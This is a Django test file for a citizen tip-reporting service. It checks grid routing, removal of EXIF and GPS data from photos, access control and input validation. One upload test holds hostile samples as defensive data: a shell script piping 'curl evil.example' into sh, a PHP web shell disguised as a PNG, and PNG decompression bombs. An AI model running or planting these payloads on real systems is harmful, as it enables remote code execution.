"""Submitting tips: routing to the innermost grid, safe photos, nothing stored on a refusal."""

import io

import pytest
from django.test import Client, override_settings
from PIL import Image

from engagement.models import Notification
from tips import services
from tips.models import CaseEvent, Tip, TipPhoto
from tips.services import place_code_create
from tips.tests.conftest import (
    IN_COMMUNITY,
    IN_DISTRICT_ONLY,
    IN_STREET_ONLY,
    OUTSIDE,
    jpeg_bytes,
    png_bomb_bytes,
    png_bytes,
    stored_files,
    upload,
)

pytestmark = pytest.mark.django_db


def counts() -> tuple[int, int, int, int, int]:
    return (
        Tip.objects.count(),
        TipPhoto.objects.count(),
        CaseEvent.objects.count(),
        Notification.objects.count(),
        len(stored_files()),
    )


def test_citizen_submits_a_tip_with_photos_and_it_is_routed_to_the_community(
    world, submit, django_capture_on_commit_callbacks
) -> None:
    # given a citizen inside the community grid
    # when they submit a tip with two photos
    with django_capture_on_commit_callbacks(execute=True):
        response = submit(world["citizen"], photos=[upload(jpeg_bytes()), upload(png_bytes(), "x.png", "image/png")])
    # then 201 with the contract's fields, routed to the innermost grid
    assert response.status_code == 201, response.content
    body = response.json()
    assert body["status"] == "submitted"
    assert body["reference"].startswith("T")
    assert body["grid"]["code"] == "t-community"
    tip = Tip.objects.get(pk=body["id"])
    assert tip.photos.count() == 2
    assert tip.events.get().action == "submit"
    # and both photos are stored as JPEG with thumbnails made by the Celery job
    for photo in tip.photos.all():
        assert photo.image.name.endswith(".jpg")
        assert photo.thumbnail.name.endswith("_thumb.jpg"), "the thumbnail job ran on commit"


@pytest.mark.parametrize(
    ("point", "grid_code"),
    [
        (IN_COMMUNITY, "t-community"),
        (IN_STREET_ONLY, "t-street"),
        (IN_DISTRICT_ONLY, "t-district"),
        ((26.05, 119.22), "t-community"),  # the community's corner: edges count as inside
        ((26.10, 119.25), "t-community"),  # on the community's northern edge
        ((26.1001, 119.25), "t-street"),  # just north of it
        ((26.00, 119.30), "t-street"),  # the street's corner, also on the district's edge
        ((26.20, 119.40), "t-district"),  # the district's far corner
    ],
)
def test_tips_route_to_the_innermost_grid_at_boundaries(world, submit, point, grid_code) -> None:
    response = submit(world["citizen"], lat_lon=point)
    assert response.status_code == 201, response.content
    assert response.json()["grid"]["code"] == grid_code


@pytest.mark.parametrize("point", [OUTSIDE, (26.2001, 119.30), (26.10, 119.4001)])
def test_a_tip_outside_every_grid_is_refused_with_a_clear_message(world, submit, point) -> None:
    before = counts()
    response = submit(world["citizen"], lat_lon=point)
    assert response.status_code == 422
    assert response.json()["code"] == "outside_service_area"
    assert "outside" in response.json()["message"]
    assert counts() == before


def test_stored_and_served_photos_carry_no_exif_and_no_gps(world, submit, django_capture_on_commit_callbacks) -> None:
    # given a JPEG with GPS and camera EXIF, rotated by its orientation tag
    original = jpeg_bytes((64, 48), gps=True, orientation=6)
    assert b"SecretCam" in original
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)
    # when it is submitted (the thumbnail job runs on commit)
    with django_capture_on_commit_callbacks(execute=True):
        response = submit(world["citizen"], photos=[upload(original)])
    assert response.status_code == 201
    photo = TipPhoto.objects.get(tip_id=response.json()["id"])
    # then the stored bytes have no EXIF at all, and orientation was applied (64×48 → 48×64)
    with photo.image.open("rb") as handle:
        stored = handle.read()
    assert b"SecretCam" not in stored
    assert b"Exif" not in stored
    image = Image.open(io.BytesIO(stored))
    assert image.format == "JPEG"
    assert dict(image.getexif()) == {}
    assert image.size == (48, 64)
    assert "icc_profile" not in image.info
    # and the reporter is served the same clean bytes, through the permission-checked view
    client = Client()
    client.force_login(world["citizen"])
    served = b"".join(client.get(f"/tips/photos/{photo.id}/").streaming_content)
    assert served == stored
    photo.refresh_from_db()
    assert photo.thumbnail.name == photo.image.name.removesuffix(".jpg") + "_thumb.jpg"
    thumb = b"".join(client.get(f"/tips/photos/{photo.id}/thumb/").streaming_content)
    assert dict(Image.open(io.BytesIO(thumb)).getexif()) == {}
    assert b"SecretCam" not in thumb


def test_photos_are_served_only_to_the_reporter_and_the_grids_staff(world, submit) -> None:
    response = submit(world["citizen"], photos=[upload(jpeg_bytes())])
    photo = TipPhoto.objects.get(tip_id=response.json()["id"])
    expected = {
        "citizen": 200,
        "district_staff": 200,
        "community_staff": 200,
        "citizen2": 404,
        "other_staff": 404,
        "auditor": 404,
    }
    for persona, status in expected.items():
        client = Client()
        client.force_login(world[persona])
        assert client.get(f"/tips/photos/{photo.id}/").status_code == status, persona
    assert Client().get(f"/tips/photos/{photo.id}/").status_code == 404
    # and the photo is not under the public MEDIA_URL
    assert Client().get(f"/media/{photo.image.name}").status_code == 404


@pytest.mark.parametrize(
    ("content", "name", "content_type", "status", "code"),
    [
        (b"#!/bin/sh\ncurl evil.example | sh\n", "photo.jpg", "image/jpeg", 415, "unsupported_media_type"),
        (b"<?php system($_GET['c']); ?>", "cat.png", "image/png", 415, "unsupported_media_type"),
        (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj", "scan.webp", "image/webp", 415, "unsupported_media_type"),
        (jpeg_bytes((400, 300))[:700], "cut.jpg", "image/jpeg", 422, "corrupt_image"),
        (png_bomb_bytes(), "bomb.png", "image/png", 413, "image_too_large"),
        (png_bomb_bytes(10_000, 6_000), "big.png", "image/png", 413, "image_too_large"),  # 60 MP, past a phone's
    ],
    ids=["renamed-script", "php-as-png", "pdf-as-webp", "truncated-jpeg", "png-40000x40000", "png-60-megapixels"],
)
def test_bad_uploads_are_refused_and_leave_nothing_behind(world, submit, content, name, content_type, status, code):
    # given a good photo first and a bad one second, so a half-done write would show
    before = counts()
    response = submit(world["citizen"], photos=[upload(jpeg_bytes()), upload(content, name, content_type)])
    assert response.status_code == status, response.content
    assert response.json()["code"] == code
    assert response.json()["details"]["photo"] == 1
    assert counts() == before


def test_an_oversized_file_is_refused_with_413_and_nothing_stored(world, submit) -> None:
    before = counts()
    big = jpeg_bytes((64, 48)) + b"\0" * 20_000  # a real JPEG, padded past the limit
    with override_settings(FUBI_MAX_PHOTO_BYTES=10_000):
        response = submit(world["citizen"], photos=[upload(big)])
    assert response.status_code == 413
    assert response.json()["code"] == "photo_too_large"
    assert counts() == before


def test_seven_photos_are_too_many(world, submit) -> None:
    before = counts()
    response = submit(world["citizen"], photos=[upload(jpeg_bytes()) for _ in range(7)])
    assert response.status_code == 413
    assert response.json()["code"] == "too_many_photos"
    assert counts() == before


def test_unknown_category_and_missing_location_are_422(world, submit, api_as) -> None:
    response = submit(world["citizen"], category="aliens")
    assert (response.status_code, response.json()["code"]) == (422, "unknown_category")
    response = api_as(world["citizen"]).post("/tips", data={"category": "other", "description": "x"})
    assert (response.status_code, response.json()["code"]) == (422, "location_required")
    response = submit(world["citizen"], lat="north")
    assert response.status_code == 422


def test_anonymous_visitors_and_non_citizens_cannot_submit(world, submit, api_as) -> None:
    assert api_as(None).post("/tips", data={"category": "other", "lat": 26.07, "lon": 119.25}).status_code == 401
    response = submit(world["auditor"])
    assert response.status_code == 403


def test_a_place_code_fills_the_location(world, submit) -> None:
    place = place_code_create(actor=world["district_staff"], code="gate-1", name="School gate", lat=26.16, lon=119.26)
    assert place.grid == world["street"]
    response = submit(world["citizen"], lat_lon=(None, None), place_code="gate-1")
    assert response.status_code == 201, response.content
    tip = Tip.objects.get(pk=response.json()["id"])
    assert (tip.lat, tip.lon, tip.place_code, tip.address) == (26.16, 119.26, place, "School gate")
    assert response.json()["grid"]["code"] == "t-street"
    response = submit(world["citizen"], lat_lon=(None, None), place_code="nope")
    assert response.json()["code"] == "unknown_place_code"


def test_my_tips_and_the_timeline(world, submit, api_as, django_capture_on_commit_callbacks) -> None:
    tip_id = submit(world["citizen"]).json()["id"]
    submit(world["citizen2"])
    mine = api_as(world["citizen"]).get("/tips").json()
    assert mine["count"] == 1
    assert mine["items"][0]["id"] == tip_id
    detail = api_as(world["citizen"]).get(f"/tips/{tip_id}").json()
    assert [step["status"] for step in detail["timeline"]] == ["submitted"]
    assert detail["reward_points"] == 0
    assert api_as(world["citizen2"]).get(f"/tips/{tip_id}").status_code == 404
    # when staff accept it, the reporter hears of it in the one inbox (engagement's)
    world["citizen"].preferred_language = "en"
    world["citizen"].save(update_fields=["preferred_language"])
    tip = Tip.objects.get(pk=tip_id)
    with django_capture_on_commit_callbacks(execute=True):
        services.case_transition(tip=tip, actor=world["district_staff"], action="accept")
    inbox = api_as(world["citizen"]).get("/inbox").json()
    assert inbox["unread"] == 1
    assert inbox["items"][0]["link"] == f"/tips/{tip_id}/"
    # rendered when read, in the reader's language (Chinese, the default)
    assert inbox["items"][0]["title"] == f"您的随手拍 {tip.reference}：已受理"
    assert api_as(world["citizen"]).get("/notifications").status_code == 404  # the old inbox is gone


def test_idempotency_key_replays_a_tip_submission(world, api_as) -> None:
    client = api_as(world["citizen"])
    form = {"category": "other", "description": "same", "lat": 26.07, "lon": 119.25}
    first = client.post("/tips", data={**form, "photos": [upload(jpeg_bytes())]}, headers={"Idempotency-Key": "k1"})
    again = client.post("/tips", data={**form, "photos": [upload(jpeg_bytes())]}, headers={"Idempotency-Key": "k1"})
    assert first.status_code == again.status_code == 201
    assert first.json()["id"] == again.json()["id"]
    assert Tip.objects.count() == 1


def test_categories_are_listed_to_anyone(api_as, db) -> None:
    body = api_as(None).get("/tips/categories").json()
    codes = [item["code"] for item in body]
    assert {"drugs", "fighting", "mental_health", "suspicious_person", "urban_management", "fire_hazard"} <= set(codes)


def test_hostile_values_get_4xx_never_500(world, submit, api_as) -> None:
    assert submit(world["citizen"], description="bad\x00byte").status_code == 422
    assert submit(world["citizen"], category="x\x00").status_code == 422
    assert submit(world["citizen"], lat="nan").status_code == 422
    assert submit(world["citizen"], lat="inf").status_code == 422
    assert submit(world["citizen"], lat_lon=(26.07, 119.25), anonymous="maybe").status_code == 422
    staff = api_as(world["district_staff"])
    assert staff.get("/cases", {"grid": "9" * 40}).json()["count"] == 0
    nul = staff.get("/cases", {"category": "a\x00b", "status": "x\x00"})  # text with NUL: refused, named
    fields = [error["field"] for error in nul.json()["details"]["errors"]]
    assert (nul.status_code, fields) == (422, ["category", "status"])
    assert staff.get("/cases", {"limit": 0}).status_code == 422
    unknown = staff.get("/cases/99999999999999999999")
    assert (unknown.status_code, unknown.json()["code"]) == (404, "not_found")
    tip_id = submit(world["citizen"]).json()["id"]
    response = staff.post(f"/cases/{tip_id}/transition", {"action": "accept", "note": "n\x00"})
    assert response.status_code == 422
    assert staff.post(f"/cases/{tip_id}/transition", {"action": "accept"}).status_code == 200
    response = staff.post(f"/cases/{tip_id}/transition", {"action": "assign", "assignee": 10**30})
    assert (response.status_code, response.json()["code"]) == (422, "invalid")
    client = Client()
    assert client.get("/open311/v2/requests.json", {"service_code": "a\x00"}).status_code == 400
    assert client.get("/open311/v2/requests.json", {"service_request_id": "x" * 5000}).status_code == 200


def test_orphan_photo_files_are_swept_but_live_ones_kept(world, submit) -> None:
    import os
    import time

    from django.core.files.base import ContentFile

    from tips.models import private_storage
    from tips.services import photo_orphans_delete

    tip_id = submit(world["citizen"], photos=[upload(jpeg_bytes())]).json()["id"]
    live = TipPhoto.objects.get(tip_id=tip_id).image.path
    orphan = private_storage.path(private_storage.save("999999/orphan.jpg", ContentFile(b"x")))
    fresh = private_storage.path(private_storage.save("999999/fresh.jpg", ContentFile(b"y")))
    old = time.time() - 7 * 3600
    for path in (live, orphan):
        os.utime(path, (old, old))
    assert photo_orphans_delete() == 1  # the old orphan only: the fresh one may be a commit in flight
    assert not os.path.exists(orphan)
    assert os.path.exists(fresh)
    assert os.path.exists(live)
    os.remove(fresh)


def test_an_app_can_fetch_its_photo_with_the_session_token(world, submit, api_as) -> None:
    tip_id = submit(world["citizen"], photos=[upload(jpeg_bytes())]).json()["id"]
    photo_id = api_as(world["citizen"]).get(f"/tips/{tip_id}").json()["photos"][0]["id"]
    token_client = api_as(world["citizen"])
    response = token_client.client.get(f"/tips/photos/{photo_id}/", headers={"X-Session-Token": token_client.token})
    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    other = api_as(world["citizen2"])
    assert other.client.get(f"/tips/photos/{photo_id}/", headers={"X-Session-Token": other.token}).status_code == 404
